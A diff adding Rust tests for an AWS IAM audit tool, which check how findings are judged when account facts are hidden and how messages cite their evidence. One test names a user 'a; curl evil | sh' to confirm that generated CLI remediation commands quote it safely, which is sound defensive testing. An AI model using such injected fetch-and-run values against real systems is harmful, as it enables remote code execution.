@@ -1,0 +1,205 @@
+//! What holds for every check, because the engine sees to it.
+
+use std::collections::BTreeSet;
+
+use tutela_model::{Finding, Status, operation};
+
+use crate::{
+    CHECKS, Judge, find,
+    fixture::{AccountFixture, UserFixture, account, user},
+};
+
+/// The rows that a check makes, as `status resource`, with the account's own ARN left out.
+fn rows(id: &str, fixture: &AccountFixture) -> Vec<String> {
+    let short = |resource: &str| resource.replace("arn:aws:iam::111122223333:", "");
+    let findings = fixture.judged(find(id).unwrap());
+    findings.iter().map(|row| format!("{} {}", row.status.word(), short(&row.resource))).collect()
+}
+
+fn with_key(name: &'static str) -> UserFixture {
+    user().named(name).keys(&["active"])
+}
+
+#[test]
+fn a_listing_that_may_be_short_is_one_unknown_row_on_the_account() {
+    let short = account().user(user()).user(user().named("bob")).hide("users");
+    assert_eq!(
+        rows("user-without-mfa", &short),
+        ["fail user/alice", "fail user/bob", "unknown root"]
+    );
+    let keys = account().user(with_key("alice")).hide("users");
+    assert_eq!(rows("access-key-exists", &keys), ["fail user/alice#access-key/1", "unknown root"]);
+    let devices = account().hide("virtual-devices");
+    assert_eq!(rows("virtual-mfa-device-unassigned", &devices), ["unknown root"]);
+}
+
+#[test]
+fn users_whose_keys_are_hidden_are_one_unknown_row_together() {
+    let hidden = |name| with_key(name).hide("keys");
+    let fixture = account().user(with_key("alice")).user(hidden("bob")).user(hidden("carol"));
+    assert_eq!(
+        rows("access-key-exists", &fixture),
+        ["fail user/alice#access-key/1", "unknown root"]
+    );
+    let message = |fixture: &AccountFixture| {
+        let findings = fixture.judged(find("access-key-exists").unwrap());
+        findings.last().unwrap().message.clone()
+    };
+    assert_eq!(
+        message(&fixture),
+        "iam:GetCredentialReport was denied: access keys of 2 users are not known (bob, carol): \
+         no policy allows it"
+    );
+    let many = fixture.user(hidden("dave")).user(hidden("erin")).hide("users");
+    assert_eq!(rows("access-key-exists", &many).len(), 2, "one row also for a short listing");
+    assert!(message(&many).contains("4 users are not known (bob, carol, dave, …)"));
+    assert!(message(&account().user(hidden("bob"))).contains("of 1 user are not known (bob)"));
+}
+
+#[test]
+fn an_empty_listing_cites_every_answer_that_says_so() {
+    let live = user().named("bob").read_from("keys", &operation::LIST_ACCESS_KEYS);
+    let fixture = account().user(user()).user(live);
+    let findings = fixture.judged(find("access-key-old").unwrap());
+    let [row] = findings.as_slice() else { panic!("{findings:#?}") };
+    assert_eq!(row.status, Status::NotApplicable);
+    let cited: Vec<String> = row
+        .evidence
+        .iter()
+        .map(|cited| {
+            format!("{} {}={}", cited.receipt.call.operation.name, cited.field, cited.value)
+        })
+        .collect();
+    assert_eq!(
+        cited,
+        [
+            "GetAccountAuthorizationDetails UserDetailList=2 users",
+            "GetCredentialReport access_key_1_active, access_key_2_active=false, false",
+            "ListAccessKeys AccessKeyMetadata=none",
+        ]
+    );
+}
+
+#[test]
+fn a_credential_whose_owner_may_have_a_path_is_judged_and_leaves_a_gap() {
+    let id = "service-specific-credential";
+    let fixture = |user: UserFixture| account().user(user).credential("active");
+    let row = "fail user/alice#service-specific-credential/ACCAEXAMPLE";
+    assert_eq!(rows(id, &fixture(user())), [row]);
+    assert_eq!(rows(id, &fixture(user()).hide("users")), [row], "the report knows the owner");
+    assert_eq!(rows(id, &fixture(user().named("bob"))), [row], "made since the users were listed");
+    assert_eq!(rows(id, &fixture(user().named("bob")).hide("users")), [row, "unknown root"]);
+}
+
+#[test]
+fn what_stands_twice_is_one_row_and_the_worse_one() {
+    let twice = account().user(user().devices(&["totp"])).user(user());
+    assert_eq!(rows("user-without-mfa", &twice), ["fail user/alice"]);
+    let doubt = account().user(user().devices(&["totp"])).user(user().hide("devices"));
+    assert_eq!(rows("user-without-mfa", &doubt), ["unknown user/alice"]);
+}
+
+#[test]
+fn a_verdict_by_an_old_report_says_how_old() {
+    let message = |fixture: AccountFixture| {
+        fixture.judged(find("access-key-exists").unwrap())[0].message.clone()
+    };
+    assert_eq!(
+        message(account().user(with_key("alice")).judged_later(200)),
+        "the key is active, and works until somebody deactivates it \
+         (by a credential report 3 h 20 min old: a change since is not seen)"
+    );
+    let live = with_key("alice").read_from("keys", &operation::LIST_ACCESS_KEYS);
+    assert_eq!(
+        message(account().user(live).judged_later(200)),
+        "the key is active, and works until somebody deactivates it"
+    );
+}
+
+#[test]
+fn hostile_names_are_quoted_in_commands() {
+    let hostile = account().user(with_key("a; curl evil | sh"));
+    for check in CHECKS {
+        for row in hostile.judged(check) {
+            let bare = row.remediation.cli.replace("'a; curl evil | sh'", "");
+            assert!(!bare.contains("curl evil"), "{}: {}", check.id, row.remediation.cli);
+        }
+    }
+}
+
+/// Accounts that between them make every check say every word that it knows.
+fn accounts() -> Vec<AccountFixture> {
+    let busy = || user().console_used_days_ago(50).keys(&["active used-50 made-100", "active"]);
+    vec![
+        account(),
+        account().root("none").password_policy(None),
+        account()
+            .root("mfa password key certificate virtual-2 used-3")
+            .password_policy(Some((8, 0))),
+        account().user(busy()).user(busy().named("bob").administrator()),
+        account().user(busy().devices(&["passkey"])).credential("active expires-3"),
+        account()
+            .user(user().administrator().devices(&["virtual", "fido"]))
+            .virtual_device("x", false),
+        account().user(user().perhaps_administrator().keys(&["inactive"]).devices(&["totp"])),
+        account().user(user().named("bob").console().keys(&["active made-with-user use-unsaid"])),
+    ]
+}
+
+const ACCOUNT_FACTS: [&str; 7] = [
+    "root",
+    "users",
+    "report",
+    "virtual-devices",
+    "password-policy",
+    "service-credentials",
+    "root-use",
+];
+const USER_FACTS: [&str; 5] = ["password", "devices", "keys", "grants", "created"];
+
+#[test]
+fn no_two_rows_have_one_key() {
+    for fixture in accounts() {
+        let findings: Vec<Finding> =
+            CHECKS.iter().flat_map(|check| fixture.judged(check)).collect();
+        let keys: BTreeSet<_> = findings.iter().map(Finding::key).collect();
+        assert_eq!(keys.len(), findings.len());
+    }
+}
+
+#[test]
+fn where_nothing_was_seen_nothing_is_known() {
+    let hide = |fixture: AccountFixture, fact: &&'static str| fixture.hide(fact);
+    let blind = ACCOUNT_FACTS.iter().fold(account().root("mfa virtual-2 used-3"), hide);
+    for check in CHECKS.iter().filter(|check| !matches!(check.judge, Judge::Exemption(_))) {
+        let statuses: Vec<Status> = blind.judged(check).iter().map(|row| row.status).collect();
+        assert_eq!(statuses, [Status::Unknown], "{}", check.id);
+    }
+}
+
+#[test]
+fn a_fact_that_is_taken_away_settles_nothing() {
+    let open = |row: &Finding| matches!(row.status, Status::Fail | Status::Unknown);
+    let (mut compared, mut changed) = (0, 0);
+    for (before, after) in accounts().into_iter().flat_map(with_one_fact_less) {
+        for check in CHECKS {
+            let (before, after) = (before.judged(check), after.judged(check));
+            let doubted = after.iter().any(|row| row.status == Status::Unknown);
+            for row in &before {
+                compared += 1;
+                let same = after.iter().find(|other| other.resource == row.resource);
+                changed += usize::from(same.is_none_or(|other| other.status != row.status));
+                let kept = same.map_or(doubted, |other| open(other) || !open(row));
+                assert!(kept, "{}: {row:#?} became {same:#?}", check.id);
+            }
+        }
+    }
+    assert!(changed > 100 && compared > changed, "{changed} of {compared} rows changed");
+}
+
+/// The account beside itself with one fact hidden, once for each fact.
+fn with_one_fact_less(fixture: AccountFixture) -> Vec<(AccountFixture, AccountFixture)> {
+    let account_facts = ACCOUNT_FACTS.iter().map(|fact| fixture.clone().hide(fact));
+    let user_facts = USER_FACTS.iter().map(|fact| fixture.clone().hide_of_users(fact));
+    account_facts.chain(user_facts).map(|less| (fixture.clone(), less)).collect()
+}
